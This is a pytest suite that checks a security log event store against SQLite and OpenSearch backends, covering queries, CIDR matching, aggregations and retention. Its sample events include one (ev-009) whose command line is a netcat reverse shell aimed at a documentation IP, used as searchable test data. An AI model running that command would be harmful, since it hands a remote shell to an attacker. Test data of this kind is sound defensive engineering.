"""The EventStore contract: one suite, run against every backend.

SQLite always runs; OpenSearch runs against osmem-server (a real HTTP server speaking the
OpenSearch API) or against the cluster named by OPENSEARCH_URL.
"""

from __future__ import annotations

import copy
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from storage.base import EventStore, QueryError
from storage.timefmt import format_timestamp

T0 = datetime(2026, 11, 20, 0, 0, tzinfo=UTC)
WINDOW = (T0 - timedelta(days=2), T0 + timedelta(days=3))


def _ev(i: int, minutes: int, **fields: Any) -> dict[str, Any]:
    ev: dict[str, Any] = {
        "@timestamp": format_timestamp(T0 + timedelta(minutes=minutes)),
        "ecs": {"version": "8.11.0"},
        "event": {"id": f"ev-{i:03d}", "kind": "event", "dataset": "system.auth"},
    }
    for name, value in fields.items():
        node = ev
        parts = name.split("__")
        for part in parts[:-1]:
            node = node.setdefault(part, {})
        node[parts[-1]] = value
    return ev


def dataset() -> list[dict[str, Any]]:
    """A small corpus across three days with every kind of field the contract queries."""
    return [
        _ev(1, 0, event__action="ssh_login", event__outcome="failure", user__name="root",
            source__ip="10.1.2.3", destination__port=22, host__name="web-01",
            message="Failed password for root from 10.1.2.3 port 4242 ssh2",
            event__category=["authentication"]),
        _ev(2, 5, event__action="ssh_login", event__outcome="failure", user__name="admin",
            source__ip="10.1.2.4", destination__port=22, host__name="web-01",
            message="Failed password for invalid user admin from 10.1.2.4"),
        _ev(3, 10, event__action="ssh_login", event__outcome="success", user__name="alice",
            source__ip="192.168.7.20", destination__port=22, host__name="web-02",
            message="Accepted publickey for alice from 192.168.7.20"),
        _ev(4, 65, event__action="sudo", event__outcome="success", user__name="alice",
            host__name="web-02", process__name="sudo", process__pid=4312,
            message="alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash"),
        _ev(5, 70, event__action="http_request", source__ip="203.0.113.9", destination__port=443,
            http__response__status_code=404, url__original="/wp-login.php", host__name="web-03",
            message="GET /wp-login.php HTTP/1.1 404"),
        _ev(6, 75, event__action="http_request", source__ip="203.0.113.10", destination__port=443,
            http__response__status_code=200, url__original="/index.html", host__name="web-03",
            message="GET /index.html HTTP/1.1 200"),
        _ev(7, 130, event__action="firewall_deny", source__ip="2001:db8::17", destination__port=3389,
            destination__ip="10.9.0.5", host__name="fw-01", fortinet__action="deny",
            message="deny tcp from 2001:db8::17 to 10.9.0.5 port 3389"),
        _ev(8, 24 * 60 + 15, event__action="ssh_login", event__outcome="failure", user__name="administrator",
            source__ip="10.200.0.1", destination__port=2222, host__name="db-01",
            message="Failed password for administrator from 10.200.0.1"),
        _ev(9, 24 * 60 + 20, event__action="process_start", user__name="bob", host__name="db-01",
            process__name="nc", process__pid=77, process__command_line="nc -e /bin/sh 198.51.100.7 4444",
            message="process started: nc -e /bin/sh"),
        _ev(10, 2 * 24 * 60 + 1, event__action="unparsed", tags=["parse_failure"], host__name="fw-01",
            message="<13>garbled line that no parser understands"),
        _ev(11, -24 * 60, event__action="ssh_login", event__outcome="failure", user__name="root",
            source__ip="10.1.2.3", destination__port=22, host__name="web-01",
            message="Failed password for root from 10.1.2.3 port 1111 ssh2"),
    ]


@pytest.fixture(params=["sqlite", "opensearch"])
def store(request: pytest.FixtureRequest, tmp_path) -> Iterator[EventStore]:
    """An empty events store of each backend."""
    if request.param == "sqlite":
        from storage.sqlite import SqliteEventStore

        s: EventStore = SqliteEventStore(tmp_path / "events.db", kind="events")
    else:
        base = request.getfixturevalue("opensearch_url_base")
        from storage.opensearch import OpenSearchEventStore

        s = OpenSearchEventStore(base, kind="events", index_prefix=f"sontra-test-{uuid.uuid4().hex[:8]}")
    try:
        yield s
    finally:
        if request.param == "opensearch":
            s.drop_all()  # type: ignore[attr-defined]
        s.close()


@pytest.fixture
def loaded(store: EventStore) -> EventStore:
    result = store.write(dataset())
    store.flush()
    assert result.written == len(dataset())
    return store


def ids(store: EventStore, query: str, **kw: Any) -> set[str]:
    res = store.search(query, *WINDOW, size=100, **kw)
    found = {h["event"]["id"] for h in res.hits}
    assert res.total == len(found)
    return found


# --- writes -----------------------------------------------------------------------------------

def test_write_is_idempotent_by_event_id(store: EventStore) -> None:
    first = store.write(dataset())
    store.flush()
    changed = copy.deepcopy(dataset())
    changed[0]["message"] = "a retry must not overwrite the stored event"
    second = store.write(changed)
    store.flush()
    assert (first.written, first.duplicates) == (11, 0)
    assert (second.written, second.duplicates) == (0, 11)
    assert store.count("", *WINDOW) == 11
    assert store.get("ev-001")["message"].startswith("Failed password for root")


def test_duplicates_inside_one_batch_are_stored_once(store: EventStore) -> None:
    ev = dataset()[0]
    res = store.write([ev, copy.deepcopy(ev)])
    store.flush()
    assert res.written == 1 and res.duplicates == 1
    assert store.count("", *WINDOW) == 1


def test_get_returns_the_event_as_written(loaded: EventStore) -> None:
    by_id = {e["event"]["id"]: e for e in dataset()}
    assert loaded.get("ev-009") == by_id["ev-009"]
    assert loaded.get("ev-010") == by_id["ev-010"]
    assert loaded.get("no-such-id") is None


# --- query language ---------------------------------------------------------------------------

def test_term_on_keyword_field(loaded: EventStore) -> None:
    assert ids(loaded, "event.action:sudo") == {"ev-004"}
    assert ids(loaded, 'user.name:"alice"') == {"ev-003", "ev-004"}
    assert ids(loaded, "user.name:Alice") == set()  # keyword terms are exact


def test_term_on_numeric_and_nested_fields(loaded: EventStore) -> None:
    assert ids(loaded, "http.response.status_code:404") == {"ev-005"}
    assert ids(loaded, "process.pid:77") == {"ev-009"}
    assert ids(loaded, "fortinet.action:deny") == {"ev-007"}


def test_term_on_array_field(loaded: EventStore) -> None:
    assert ids(loaded, "tags:parse_failure") == {"ev-010"}
    assert ids(loaded, "event.category:authentication") == {"ev-001"}


def test_phrase_and_free_text_on_message(loaded: EventStore) -> None:
    assert ids(loaded, 'message:"failed password"') == {"ev-001", "ev-002", "ev-008", "ev-011"}
    assert ids(loaded, "invalid") == {"ev-002"}
    assert ids(loaded, '"accepted publickey"') == {"ev-003"}
    assert ids(loaded, "message:wp-login.php") == {"ev-005"}


def test_wildcards(loaded: EventStore) -> None:
    assert ids(loaded, "user.name:adm*") == {"ev-002", "ev-008"}
    assert ids(loaded, "host.name:web-0?") == {"ev-001", "ev-002", "ev-003", "ev-004", "ev-005", "ev-006",
                                               "ev-011"}
    assert ids(loaded, "process.command_line:*198.51.100.7*") == {"ev-009"}
    assert ids(loaded, "user.name:?lice") == {"ev-003", "ev-004"}


def test_boolean_operators(loaded: EventStore) -> None:
    assert ids(loaded, "event.action:ssh_login AND event.outcome:success") == {"ev-003"}
    assert ids(loaded, "event.action:sudo OR event.action:process_start") == {"ev-004", "ev-009"}
    assert ids(loaded, "event.action:ssh_login AND NOT user.name:root") == {"ev-002", "ev-003", "ev-008"}
    assert ids(loaded, "event.action:ssh_login -user.name:root") == {"ev-002", "ev-003", "ev-008"}
    assert ids(loaded, "(user.name:alice OR user.name:bob) AND host.name:db-01") == {"ev-009"}
    assert ids(loaded, "user.name:(alice OR bob)") == {"ev-003", "ev-004", "ev-009"}


def test_exists(loaded: EventStore) -> None:
    assert ids(loaded, "_exists_:process.command_line") == {"ev-009"}
    assert ids(loaded, "_exists_:http.response.status_code") == {"ev-005", "ev-006"}
    assert ids(loaded, "NOT _exists_:user.name") == {"ev-005", "ev-006", "ev-007", "ev-010"}


def test_numeric_ranges(loaded: EventStore) -> None:
    assert ids(loaded, "destination.port:[22 TO 443]") == {"ev-001", "ev-002", "ev-003", "ev-005", "ev-006",
                                                           "ev-011"}
    assert ids(loaded, "destination.port:{22 TO 443]") == {"ev-005", "ev-006"}
    assert ids(loaded, "destination.port:>2222") == {"ev-007"}
    assert ids(loaded, "destination.port:>=2222") == {"ev-007", "ev-008"}
    assert ids(loaded, "http.response.status_code:[400 TO *]") == {"ev-005"}


def test_timestamp_range_in_query(loaded: EventStore) -> None:
    q = "@timestamp:[2026-11-20T01:00:00Z TO 2026-11-20T02:00:00Z}"
    assert ids(loaded, q) == {"ev-004", "ev-005", "ev-006"}


def test_cidr_on_ip_fields(loaded: EventStore) -> None:
    assert ids(loaded, 'source.ip:"10.0.0.0/8"') == {"ev-001", "ev-002", "ev-008", "ev-011"}
    assert ids(loaded, 'source.ip:"10.1.2.0/24" AND NOT source.ip:"10.1.2.4"') == {"ev-001", "ev-011"}
    assert ids(loaded, 'source.ip:"2001:db8::/32"') == {"ev-007"}
    assert ids(loaded, 'destination.ip:"10.9.0.0/16"') == {"ev-007"}
    assert ids(loaded, 'source.ip:"192.168.7.20"') == {"ev-003"}


def test_match_all(loaded: EventStore) -> None:
    assert loaded.count("", *WINDOW) == 11
    assert loaded.count("*", *WINDOW) == 11


def test_invalid_query_names_the_position(loaded: EventStore) -> None:
    with pytest.raises(QueryError) as err:
        loaded.search("user.name:(root OR", *WINDOW)
    assert err.value.position is not None
    assert "position" in str(err.value)
    with pytest.raises(QueryError):
        loaded.count("destination.port:[1 TO", *WINDOW)


# --- time window, sort, pagination ------------------------------------------------------------

def test_time_window_is_start_inclusive_end_exclusive(loaded: EventStore) -> None:
    start = T0 + timedelta(minutes=5)
    end = T0 + timedelta(minutes=65)
    res = loaded.search("", start, end, size=100)
    assert {h["event"]["id"] for h in res.hits} == {"ev-002", "ev-003"}


def test_sort_and_pagination(loaded: EventStore) -> None:
    asc = loaded.search("", *WINDOW, size=4, sort="@timestamp:asc")
    assert asc.total == 11
    assert [h["event"]["id"] for h in asc.hits] == ["ev-011", "ev-001", "ev-002", "ev-003"]
    page2 = loaded.search("", *WINDOW, size=4, offset=4, sort="@timestamp:asc")
    assert [h["event"]["id"] for h in page2.hits] == ["ev-004", "ev-005", "ev-006", "ev-007"]
    desc = loaded.search("", *WINDOW, size=2)
    assert [h["event"]["id"] for h in desc.hits] == ["ev-010", "ev-009"]
    by_port = loaded.search("_exists_:destination.port", *WINDOW, size=3, sort="destination.port:desc")
    assert [h["event"]["id"] for h in by_port.hits] == ["ev-007", "ev-008", "ev-005"]


def test_count(loaded: EventStore) -> None:
    assert loaded.count("event.action:ssh_login", *WINDOW) == 5
    assert loaded.count("event.action:ssh_login", T0, T0 + timedelta(days=1)) == 3


# --- aggregations -----------------------------------------------------------------------------

def test_date_histogram(loaded: EventStore) -> None:
    buckets = loaded.histogram("", T0, T0 + timedelta(days=1), interval="1h")
    assert [(b.start, b.count) for b in buckets] == [
        (T0, 3),
        (T0 + timedelta(hours=1), 3),
        (T0 + timedelta(hours=2), 1),
    ]
    daily = loaded.histogram("event.action:ssh_login", *WINDOW, interval="1d")
    assert [(b.start, b.count) for b in daily] == [
        (T0 - timedelta(days=1), 1),
        (T0, 3),
        (T0 + timedelta(days=1), 1),
    ]


def test_top_terms(loaded: EventStore) -> None:
    top = loaded.terms("user.name", "", *WINDOW, size=3)
    assert [(t.value, t.count) for t in top] == [("alice", 2), ("root", 2), ("admin", 1)]
    ports = loaded.terms("destination.port", "event.action:ssh_login", *WINDOW, size=5)
    assert [(t.value, t.count) for t in ports] == [(22, 4), (2222, 1)]


# --- retention --------------------------------------------------------------------------------

def test_purge_by_time(loaded: EventStore) -> None:
    deleted = loaded.purge(T0 + timedelta(hours=1))
    loaded.flush()
    assert deleted == 4  # ev-011 (day before), ev-001..003
    assert loaded.count("", *WINDOW) == 7
    assert loaded.get("ev-003") is None
    assert loaded.get("ev-004") is not None
    assert loaded.purge(T0 + timedelta(days=10)) == 7
    loaded.flush()
    assert loaded.count("", *WINDOW) == 0


def test_alerts_store_is_separate(store: EventStore, tmp_path) -> None:
    if store.kind != "events":
        pytest.fail("fixture must give an events store")
    alert = _ev(900, 0, event__kind="alert", rule__id="r-1", rule__name="SSH brute force")
    alerts = store.sibling("alerts")  # type: ignore[attr-defined]
    try:
        alerts.write([alert])
        alerts.flush()
        assert alerts.kind == "alerts"
        assert alerts.count("rule.id:r-1", *WINDOW) == 1
        assert store.count("rule.id:r-1", *WINDOW) == 0
    finally:
        if hasattr(alerts, "drop_all"):
            alerts.drop_all()
        alerts.close()
